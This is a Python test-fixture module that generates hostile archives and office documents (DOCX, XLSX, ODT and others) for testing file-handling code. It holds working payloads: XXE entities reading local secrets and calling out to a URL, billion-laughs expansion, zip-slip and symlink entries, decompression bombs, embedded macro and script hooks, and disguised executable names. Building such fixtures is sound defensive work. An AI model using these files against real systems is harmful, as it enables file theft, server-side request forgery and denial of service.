"""Archives and office files made to hurt whoever opens them."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

from tests.factories.hostile import changed, laughs, office, zipped

Maker = Callable[[], bytes]
MEGA = 1_000_000
OFFICE_MAIN = {
    "docx": "word/document.xml",
    "xlsx": "xl/workbook.xml",
    "pptx": "ppt/presentation.xml",
}
OPEN_TYPES = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
OPEN_BODY = {
    "odt": "<text:p>%s</text:p>",
    "ods": '<table:table table:name="a"><table:table-row>'
    '<table:table-cell office:value-type="string"><text:p>%s</text:p>'
    "</table:table-cell></table:table-row></table:table>",
    "odp": '<draw:page draw:name="a"><draw:frame><draw:text-box><text:p>%s</text:p></draw:text-box>'
    "</draw:frame></draw:page>",
}
OASIS = "urn:oasis:names:tc:opendocument:xmlns"
SPACES = " ".join(
    f'xmlns:{name}="{OASIS}:{where}:1.0"'
    for name, where in {
        "office": "office",
        "text": "text",
        "table": "table",
        "draw": "drawing",
        "script": "script",
    }.items()
)
MAXIMUM = 1_048_576


def open_document(kind: str, body: str = "", head: str = "", before: str = "") -> bytes:
    """Return an OpenDocument file with this body, head and document type."""
    mime = f"application/vnd.oasis.opendocument.{OPEN_TYPES[kind]}"
    body = body or OPEN_BODY[kind] % "Testo"
    content = (
        f'<?xml version="1.0"?>{before}<office:document-content {SPACES} office:version="1.2">'
        f"{head}<office:body><office:{OPEN_TYPES[kind]}>{body}</office:{OPEN_TYPES[kind]}></office:body>"
        "</office:document-content>"
    )
    empty = f'<?xml version="1.0"?><office:document-%s {SPACES} office:version="1.2"/>'
    manifest = (
        f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{OASIS}:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
        "</manifest:manifest>"
    )
    return zipped(
        {
            "mimetype": mime.encode(),
            "content.xml": content.encode(),
            "styles.xml": (empty % "styles").encode(),
            "meta.xml": (empty % "meta").encode(),
            "settings.xml": (empty % "settings").encode(),
            "META-INF/manifest.xml": manifest.encode(),
        }
    )


def entity(secret: str, url: str) -> str:
    """Return a document type that asks for a file and for an address."""
    return (
        f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{secret}"><!ENTITY n SYSTEM "{url}">'
        f'<!ENTITY % p SYSTEM "{url}"> %p;]>'
    )


def laughing() -> str:
    """Return the document type of the thousand million laughs."""
    text = laughs().decode()
    return text[text.index("<!DOCTYPE") : text.index("]>") + 2]


def offices(secret: str, url: str) -> dict[str, Maker]:
    """Return office files that ask for what is not theirs, and nest, and swell."""
    made: dict[str, Maker] = {}
    for kind, main in OFFICE_MAIN.items():
        part = main.removesuffix(".xml").replace("/", "__")
        folder = main.partition("/")[0]
        relations = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{url}" Target="{url}" TargetMode="External"/>'
            f'<Relationship Id="r2" Type="x" Target="file://{secret}" TargetMode="External"/>'
            '<Relationship Id="r3" Type="x" Target="../../../../etc/passwd"/></Relationships>'
        ).encode()
        plain = partial(office, kind)
        made |= {
            f"legami.{kind}": partial(_relations, kind, relations),
            f"metà.{kind}": lambda plain=plain: plain()[: len(plain()) // 2],
            f"senza-parte.{kind}": lambda plain=plain, main=main: _without(plain(), main),
            f"parte-vuota.{kind}": lambda plain=plain, part=part: changed(plain(), **{part: b""}),
            f"annidato.{kind}": lambda plain=plain, part=part: changed(
                plain(), **{part: b"<?xml version='1.0'?>" + b"<a>" * 300_000}
            ),
            f"attributi.{kind}": lambda plain=plain, part=part: changed(
                plain(), **{part: _attributes(100_000)}
            ),
            f"macro.{kind}": lambda plain=plain, folder=folder: zipped(
                {**_parts(plain()), f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(5000)}
            ),
        }
    for kind, body in OPEN_BODY.items():
        script = (
            '<office:scripts><office:script script:language="ooo:Basic"/><office:event-listeners>'
            '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
            'xlink:href="vnd.sun.star.script:x?location=document" xmlns:xlink="x"/>'
            "</office:event-listeners></office:scripts>"
        )
        made |= {
            f"entita.{kind}": partial(
                open_document, kind, body % "&e;&n;", before=entity(secret, url)
            ),
            f"risate.{kind}": partial(open_document, kind, body % "&l9;", before=laughing()),
            f"script.{kind}": partial(open_document, kind, head=script),
            f"annidato.{kind}": partial(open_document, kind, "<text:section>" * 200_000),
            f"bomba.{kind}": partial(open_document, kind, body % (" " * 150 * MEGA)),
            f"immagine-remota.{kind}": partial(
                open_document,
                kind,
                f'<text:p><draw:frame><draw:image xmlns:x="http://www.w3.org/1999/xlink" '
                f'x:href="{url}"/></draw:frame></text:p>',
            ),
            f"metà.{kind}": lambda kind=kind: open_document(kind)[:600],
        }
    repeated = '<table:table table:name="a"><table:table-row table:number-rows-repeated="%d">'
    cell = '<table:table-cell table:number-columns-repeated="%d" office:value-type="string">'
    filled = f"{repeated}{cell}<text:p>cella</text:p></table:table-cell></table:table-row>"
    spaces = '<text:p>a<text:s text:c="2000000000"/>b</text:p>'
    return made | {
        "ripetute.ods": lambda: open_document("ods", filled % (MAXIMUM, 16_384) + "</table:table>"),
        "spazi.odt": lambda: open_document("odt", spaces),
        "mille-fogli.ods": lambda: open_document(
            "ods",
            "".join(
                f'<table:table table:name="{n}"><table:table-row><table:table-cell/>'
                "</table:table-row></table:table>"
                for n in range(5000)
            ),
        ),
        "righe-ultime.xlsx": lambda: changed(office("xlsx"), xl__worksheets__sheet1=_last_cell()),
        "tabelle-annidate.docx": lambda: changed(office("docx"), word__document=_tables(3000)),
        "immagine-svg.docx": lambda: zipped(
            {
                **_parts(office("docx")),
                "word/media/image1.svg": (
                    f'<?xml version="1.0"?>{entity(secret, url)}'
                    '<svg xmlns="x"><text>&e;</text></svg>'
                ).encode(),
            }
        ),
    }


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        return {name: source.read(name) for name in source.namelist()}


def _without(data: bytes, part: str) -> bytes:
    return zipped({name: body for name, body in _parts(data).items() if name != part})


def _relations(kind: str, relations: bytes) -> bytes:
    parts = _parts(office(kind))
    main = OFFICE_MAIN[kind]
    folder, _, name = main.partition("/")
    return zipped({**parts, f"{folder}/_rels/{name}.rels": relations})


def _attributes(count: int) -> bytes:
    return b"<a %s/>" % b" ".join(b'a%d="x"' % number for number in range(count))


def _last_cell() -> bytes:
    return (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        b'<row r="1048576"><c r="A9999999999"><v>1e999</v></c></row></sheetData></worksheet>'
    )


def _tables(depth: int) -> bytes:
    start, end = b"<w:tbl><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
    return (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        + start * depth
        + end * depth
        + b"</w:body></w:document>"
    )


def named(name: str, data: bytes = b"x", mode: int = 0) -> bytes:
    """Return an archive of one entry with a name of bad manners."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as target:
        entry = zipfile.ZipInfo(name or "vuoto")
        entry.create_system = 3
        entry.external_attr = mode << 16
        target.writestr(entry, data)
    return made.getvalue()


def _method(number: int) -> bytes:
    """Return an archive whose entry says it is packed by another method."""
    data = bytearray(zipped({"a.txt": b"x" * 900}))
    struct.pack_into("<H", data, 8, number)
    struct.pack_into("<H", data, data.rindex(b"PK\x01\x02") + 10, number)
    return bytes(data)


def _chest(times: int, wide: int) -> bytes:
    data = zipped({"0.txt": bytes(10 * MEGA)})
    for number in range(times):
        data = zipped({f"{number}-{copy}.zip": data for copy in range(wide)})
    return data


def crowded(count: int) -> bytes:
    """Return an archive that is nothing but a list of so many entries."""
    entry = zipped({"a": b""})
    at = entry.index(b"PK\x01\x02")
    record, end = entry[at:-22], bytearray(entry[-22:])
    struct.pack_into("<HHII", end, 8, count % 65_536, count % 65_536, len(record) * count, at)
    return entry[:at] + record * count + bytes(end)


def archives(secret: str, url: str, target: str) -> dict[str, Maker]:
    """Return archives that climb out of their folder, swell, lie, or are none."""
    many = {f"{'cartella/' * 20}{n}.txt": b"" for n in range(60_000)}
    link = stat.S_IFLNK | 0o777
    many_bytes = bytes(200 * MEGA)
    return {
        "risale.zip": partial(named, "../" * 12 + target.lstrip("/")),
        "assoluto.zip": partial(named, target),
        "barre-rovesciate.zip": partial(named, "..\\..\\..\\Windows\\System32\\x.dll"),
        "collegamento.zip": partial(named, "a.txt", secret.encode(), link),
        "collegamento-indirizzo.zip": partial(named, "a.url", b"[x]\nURL=" + url.encode()),
        "dispositivo.zip": partial(named, "CON", b"x", stat.S_IFCHR | 0o666),
        "nome-lungo.zip": partial(named, "a" * 60_000),
        "nome-rovesciato.zip": partial(named, "fattura\u202efdp.exe"),
        "nome-controlli.zip": partial(named, "a\x1b[2J\r\n\t.txt"),
        "nome-vuoto.zip": partial(named, "/"),
        "sessantamila.zip": lambda: zipped(many, zipfile.ZIP_STORED),
        "centrale-enorme.zip": partial(crowded, 2_000_000),
        "doppi.zip": lambda: named("a.txt")[:-22] + named("a.txt"),
        "preceduto.zip": lambda: b"MZ" + bytes(500) + zipped({"a.txt": b"x"}),
        "commento.zip": lambda: zipped({"a.txt": b"x"})[:-2] + b"\xff\xff" + b"PK\x05\x06" * 16_000,
        "forziere.zip": partial(_chest, 5, 8),
        "scatole-profonde.zip": partial(_chest, 60, 1),
        "bzip2.zip": lambda: zipped({"a": many_bytes}, zipfile.ZIP_BZIP2),
        "lzma.zip": lambda: zipped({"a": many_bytes}, zipfile.ZIP_LZMA),
        "metodo-99.zip": partial(_method, 99),
        "metodo-9.zip": partial(_method, 9),
        "solo-fine.zip": lambda: b"PK\x03\x04" + bytes(30) + zipped({})[-22:],
        "solo-cartelle.zip": lambda: zipped({f"{n}/": b"" for n in range(50)}),
        "programma.zip": lambda: zipped({"fattura.pdf.exe": b"MZ" + bytes(500)}),
        "bomba.gz": lambda: gzip.compress(many_bytes),
        "bomba.bz2": lambda: bz2.compress(many_bytes),
        "bomba.xz": lambda: lzma.compress(many_bytes),
        "risale.tar": partial(_tar, target),
        "gz-nello.zip": lambda: zipped({"a.gz": zlib.compress(many_bytes)}),
        "finto.pdf": lambda: gzip.compress(b"%PDF-1.7"),
        "sette.zip": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(5000),
        "rar.zip": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(5000),
    }


def _tar(target: str) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../" * 9 + target))
    return made.getvalue()
